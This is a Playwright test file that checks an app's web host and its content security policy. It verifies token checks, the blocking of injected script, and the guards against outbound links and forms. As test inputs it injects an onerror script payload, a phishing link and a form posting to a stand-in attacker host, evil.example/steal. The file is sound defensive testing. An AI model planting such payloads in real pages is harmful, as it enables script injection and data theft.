import type { Page } from '@playwright/test';
import { webTransport } from '../../src-shared/host/contract';
import { expect, test } from './fixtures';

// The web edition's half of docs/security.md: the host refuses calls without the per-launch
// token, and nothing a page contains can navigate the app away or replace it.

const allowedExternal = 'https://github.com/campaign-studio';

// Refused scripts, forms and links are reported on the console: that is what these tests cause.
test.use({ allowPageErrors: true });

test.beforeEach(async ({ page, context }) => {
  // The machine may be offline: answer the allowed external site locally.
  await context.route('https://github.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<title>external</title>external' }));
  await page.goto('/');
  await expect(page.getByTestId('app-version')).toBeVisible();
});

/** Adds an element to the page outside React, as injected or user-supplied markup would be. */
async function inject(page: Page, html: string): Promise<void> {
  await page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
}

/** Resolves with the directives of the next `count` CSP violations the page reports. */
async function nextViolations(page: Page, count: number): Promise<() => Promise<string[]>> {
  await page.evaluate((n) => {
    const seen: string[] = [];
    (window as unknown as { __violations: Promise<string[]> }).__violations = new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        seen.push(event.violatedDirective);
        if (seen.length === n) resolve(seen.sort());
      });
    });
  }, count);
  return () => page.evaluate(() => (window as unknown as { __violations: Promise<string[]> }).__violations);
}

async function appIsStillShown(page: Page, url: string): Promise<void> {
  expect(page.url()).toBe(url);
  await expect(page.getByTestId('app-version')).toBeVisible();
}

test('refuses an API call without the token, from outside and from the page', async ({ page, host }) => {
  const outside = await fetch(new URL(`${webTransport.apiPrefix}secrets.set`, host.url), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'backend.default', value: 'planted' }),
  });
  expect(outside.status).toBe(401);

  const fromPage = await page.evaluate(async (prefix) => {
    const response = await fetch(`${prefix}app.info`, { method: 'POST', body: '{}' });
    return response.status;
  }, webTransport.apiPrefix);
  expect(fromPage).toBe(401);

  // With the token the page was served, the same host answers, and the planted secret is not there.
  const withToken = await page.evaluate(
    async ({ prefix, header, meta }) => {
      const token = document.querySelector<HTMLMetaElement>(`meta[name="${meta}"]`)?.content ?? '';
      const response = await fetch(`${prefix}secrets.has`, { method: 'POST', headers: { [header]: token }, body: '{"name":"backend.default"}' });
      return { status: response.status, body: (await response.json()) as unknown };
    },
    { prefix: webTransport.apiPrefix, header: webTransport.tokenHeader, meta: webTransport.tokenMetaName },
  );
  expect(withToken).toEqual({ status: 200, body: { stored: false } });
});

test('serves the page with the strict CSP, so injected script does not run', async ({ page }) => {
  const response = await page.request.get('/');
  expect(response.headers()['content-security-policy']).toContain("script-src 'self'");
  const violations = await nextViolations(page, 2);
  // An inline event handler (runs when the image fails) and a script element added by script:
  // both would run without the policy (markup parsed by insertAdjacentHTML never runs <script>).
  await inject(page, '<img src="/no-such-image.png" onerror="window.__pwned = true">');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = true';
    document.body.append(script);
  });
  expect(await violations()).toEqual(['script-src-attr', 'script-src-elem']);
  expect(await page.evaluate(() => (window as { __pwned?: boolean }).__pwned)).toBeUndefined();
});

test('blocks a link that would navigate away, and opens nothing', async ({ page, context, host }) => {
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  const pagesBefore = context.pages().length;
  await inject(page, '<a id="evil-link" href="https://evil.example/phish">win a prize</a>');
  await page.click('#evil-link');
  await page.click('#evil-link', { button: 'middle' });
  // The renderer's link guard did it (not a failed load): both clicks were refused by name.
  await expect.poll(() => warnings.filter((text) => text.includes('Blocked a link to https://evil.example/phish'))).toHaveLength(2);
  await appIsStillShown(page, host.url);
  expect(context.pages()).toHaveLength(pagesBefore);
});

test('opens an allowed external link in a new tab without an opener, never in place of the app', async ({ page, context, host }) => {
  await inject(page, `<a id="docs-link" href="${allowedExternal}" target="_self">our code</a>`);
  const [popup] = await Promise.all([context.waitForEvent('page'), page.click('#docs-link')]);
  await popup.waitForLoadState();
  expect(popup.url()).toBe(allowedExternal);
  expect(await popup.evaluate(() => window.opener)).toBeNull();
  await popup.close();
  await appIsStillShown(page, host.url);
});

test('blocks a form that would post the page away', async ({ page, context, host }) => {
  const leaked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    leaked.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'text/html', body: 'stolen' });
  });
  const violations = await nextViolations(page, 1);
  await inject(page, '<form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="x"></form>');
  // Submitted from script: a click would make Playwright wait for a navigation CSP never lets start.
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.requestSubmit());
  // The policy refuses the submission itself (form-action), so no request is ever made.
  expect(await violations()).toEqual(['form-action']);
  expect(leaked).toEqual([]);
  // Playwright's locators would wait for the navigation the policy never lets start: ask the DOM.
  expect(page.url()).toBe(host.url);
  expect(await page.evaluate(() => document.querySelector('[data-testid="app-version"]') !== null)).toBe(true);
});
